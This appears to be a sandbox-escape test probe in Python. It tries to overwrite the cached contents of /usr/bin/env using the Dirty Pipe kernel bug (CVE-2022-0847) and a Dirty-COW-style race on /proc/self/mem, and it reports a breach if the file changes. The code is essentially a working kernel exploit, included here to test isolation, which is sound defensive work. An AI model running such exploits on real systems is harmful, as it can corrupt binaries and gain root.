# threat: T1
# tries: write into the page cache of a host file: splice and pipe (CVE-2022-0847), private mapping and /proc/self/mem
import mmap, threading

path = "/usr/bin/env"
before = open(path, "rb").read(4096)
fd = os.open(path, os.O_RDONLY)
reader, writer = os.pipe()
for _ in range(16):
    os.write(writer, b"x" * 4096)
for _ in range(16):
    os.read(reader, 4096)
os.splice(fd, writer, 1, offset_src=0)
os.write(writer, b"OWNED!!!")
memory = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
start = None
for line in open("/proc/self/maps"):
    if line.rstrip().endswith(path):
        start = int(line.split("-")[0], 16)
end = time.time() + 1


def drop():
    while time.time() < end:
        memory.madvise(mmap.MADV_DONTNEED)


thread = threading.Thread(target=drop)
thread.start()
mem = os.open("/proc/self/mem", os.O_RDWR)
while time.time() < end:
    try:
        os.pwrite(mem, b"OWNED!!!", start + 1)
    except OSError as error:
        print(error)
        break
thread.join()
if open(path, "rb").read(4096) != before:
    breach(path, "was changed")
print("END")
